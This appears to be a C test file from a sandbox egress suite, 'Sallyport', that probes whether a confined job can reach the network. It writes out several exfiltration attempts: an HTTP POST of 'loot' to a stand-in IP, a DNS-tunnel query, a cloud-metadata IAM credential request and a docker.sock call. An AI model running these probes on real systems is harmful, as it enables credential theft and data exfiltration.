// SPDX-License-Identifier: Apache-2.0
// Ways out by the network. Nothing is sent when an interface leads anywhere but to Sallyport's gate (or is loopback): that alone is the finding.
// A suite that gives the box a route which ends in a namespace of its own says so by ATTACK_ROUTED=1.
#define _GNU_SOURCE
#include "attack.h"
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/vm_sockets.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

enum { ANSWER_MS = 1500 };

// The link of a job to its gate has this address, and no network in use has it (RFC 2544).
static bool leads_to_gate(int fd, struct ifreq *request) {
  if (ioctl(fd, SIOCGIFADDR, request) != 0) return false;
  return ((const struct sockaddr_in *)&request->ifr_addr)->sin_addr.s_addr == inet_addr("198.18.0.2");
}

const char *way_out(void) {
  static char name[IF_NAMESIZE];
  if (strcmp(text_parameter("ATTACK_ROUTED", ""), "1") == 0) return NULL;
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  bool found = false;
  for (unsigned int index = 1; !found && index < 4096; index++) {
    struct ifreq request = {0};
    if (if_indextoname(index, name) == NULL || strcmp(name, "lo") == 0) continue;
    snprintf(request.ifr_name, sizeof request.ifr_name, "%s", name);
    // Tunnels that every namespace gets are down.
    found = (ioctl(fd, SIOCGIFFLAGS, &request) != 0 || (request.ifr_flags & IFF_UP) != 0) && !leads_to_gate(fd, &request);
  }
  if (fd >= 0) close(fd);
  return found ? name : NULL;
}

static struct verdict opened(int fd, const char *what) {
  if (fd < 0) return refused(errno, "%s", what);
  close(fd);
  return got("%s", what);
}

static struct verdict packet_socket(void) { return opened(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)), "a packet socket"); }
static struct verdict raw_socket(void) { return opened(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP), "a raw socket"); }
// Only opened: a connection would reach the hypervisor, whatever the network namespace.
static struct verdict vsock_connect(void) { return opened(socket(AF_VSOCK, SOCK_STREAM, 0), "a socket to the hypervisor"); }

static struct verdict netlink_route_change(void) {
  if (way_out() != NULL) return got("the interface %s leads out; nothing was changed", way_out());
  struct {
    struct nlmsghdr header;
    struct ifaddrmsg address;
    struct rtattr attribute;
    struct in_addr value;
  } request = {
      .header = {sizeof request, RTM_NEWADDR, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE, 1, 0},
      .address = {.ifa_family = AF_INET, .ifa_prefixlen = 32, .ifa_index = if_nametoindex("lo")},
      .attribute = {RTA_LENGTH(4), IFA_LOCAL},
      .value = {inet_addr("127.77.0.1")},
  };
  char answer[4096];
  int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
  if (fd < 0) return refused(errno, "the route socket");
  if (send(fd, &request, sizeof request, 0) < 0) return refused(errno, "the route request");
  ssize_t n = recv(fd, answer, sizeof answer, 0);
  close(fd);
  const struct nlmsghdr *header = (const struct nlmsghdr *)answer;
  if (n < (ssize_t)NLMSG_LENGTH(sizeof(struct nlmsgerr)) || header->nlmsg_type != NLMSG_ERROR) return refused(EPROTO, "the route answer");
  int error = -((const struct nlmsgerr *)NLMSG_DATA(header))->error;
  return error == 0 || error == EEXIST ? got("an address was added to an interface") : refused(error, "an address");
}

// Sends `question` and reads an answer; returns its length, or -1 with errno.
static ssize_t talk(int fd, const struct sockaddr *address, socklen_t size, const char *question, size_t length, char *answer, size_t room) {
  if (fd < 0) return -1;
  struct pollfd ready = {.fd = fd, .events = POLLOUT};
  if (connect(fd, address, size) != 0) {
    int error = errno;
    socklen_t error_size = sizeof error;
    if (error == EINPROGRESS) {
      if (poll(&ready, 1, ANSWER_MS) != 1) error = ETIMEDOUT;
      else getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &error_size);
    }
    if (error != 0) return errno = error, -1;
  }
  if (send(fd, question, length, MSG_NOSIGNAL) < 0) return -1;
  ready.events = POLLIN;
  if (poll(&ready, 1, ANSWER_MS) != 1) return errno = ETIMEDOUT, -1;
  ssize_t n = recv(fd, answer, room - 1, 0);
  if (n >= 0) answer[n] = '\0';
  return n;
}

// A gate that answers has let nothing through: HTTP with its own header, DNS with NXDOMAIN or REFUSED and no record.
static bool is_refusal_in_words(const char *answer, ssize_t size, int port) {
  if (port != 53) return size == 0 || strstr(answer, "x-sallyport-refused:") != NULL;
  int rcode = size >= 12 ? answer[3] & 15 : 0;
  return (rcode == 3 || rcode == 5) && answer[6] == 0 && answer[7] == 0;
}

static struct verdict reach(const char *ip, int port, int type, const char *question, size_t length) {
  const char *interface = way_out();
  if (interface != NULL) return got("the interface %s leads out; nothing was sent", interface);
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
  inet_pton(AF_INET, ip, &address.sin_addr);
  char answer[1024] = "";
  int fd = socket(AF_INET, type | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  ssize_t n = talk(fd, (struct sockaddr *)&address, sizeof address, question, length, answer, sizeof answer);
  int error = errno;
  if (fd >= 0) close(fd);
  if (n < 0) return refused(error, "%s:%d", ip, port);
  if (is_refusal_in_words(answer, n, port)) return refused(EACCES, "%s:%d: the gate's own answer", ip, port);
  const char *body = strstr(answer, "\r\n\r\n");
  return got("%s:%d answered %zd bytes%s%.150s", ip, port, n, body == NULL ? "" : ": ", body == NULL ? "" : body + 4);
}

static struct verdict connect_ip_literal(void) {
  static const char POST[] = "POST /collect HTTP/1.1\r\nHost: collector\r\nContent-Length: 4\r\n\r\nloot";
  return reach("192.0.2.1", 443, SOCK_STREAM, POST, sizeof POST - 1);
}

static struct verdict dns_udp(void) {
  static const char QUERY[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04loot\x07" "example\x00\x00\x01\x00\x01";
  return reach("192.0.2.53", 53, SOCK_DGRAM, QUERY, sizeof QUERY - 1);
}

static struct verdict metadata_address(void) {
  static const char GET[] = "GET /latest/meta-data/iam/security-credentials/ci HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n";
  return reach("169.254.169.254", 80, SOCK_STREAM, GET, sizeof GET - 1);
}

static struct verdict reach_unix(const char *name, bool abstract) {
  static const char GET[] = "GET /version HTTP/1.1\r\nHost: localhost\r\n\r\n";
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  snprintf(address.sun_path + (abstract ? 1 : 0), sizeof address.sun_path - 1, "%s", name);
  socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(name) + 1);
  char answer[1024] = "";
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  ssize_t n = talk(fd, (struct sockaddr *)&address, size, GET, sizeof GET - 1, answer, sizeof answer);
  int error = errno;
  if (fd >= 0) close(fd);
  if (n < 0 && error != ETIMEDOUT) return refused(error, "%s%s", abstract ? "@" : "", name);
  return got("%s%s was reached", abstract ? "@" : "", name);
}

static struct verdict docker_sock(void) { return reach_unix("/var/run/docker.sock", false); }
static struct verdict abstract_unix_socket(void) { return reach_unix(text_parameter("ATTACK_ABSTRACT_SOCKET", "sallyport-canary"), true); }

const struct attack NETWORK_ATTACKS[] = {
    {"packet-socket", packet_socket},
    {"raw-socket", raw_socket},
    {"vsock-connect", vsock_connect},
    {"netlink-route-change", netlink_route_change},
    {"connect-ip-literal", connect_ip_literal},
    {"dns-udp", dns_udp},
    {"metadata-address", metadata_address},
    {"docker-sock", docker_sock},
    {"abstract-unix-socket", abstract_unix_socket},
    {NULL, NULL},
};
